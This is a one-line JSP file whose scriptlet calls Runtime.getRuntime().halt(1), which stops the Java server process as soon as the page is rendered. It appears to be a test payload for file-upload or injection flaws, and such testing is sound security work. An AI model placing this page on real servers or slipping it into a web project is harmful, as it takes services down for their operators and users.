<% Runtime.getRuntime().halt(1); %>
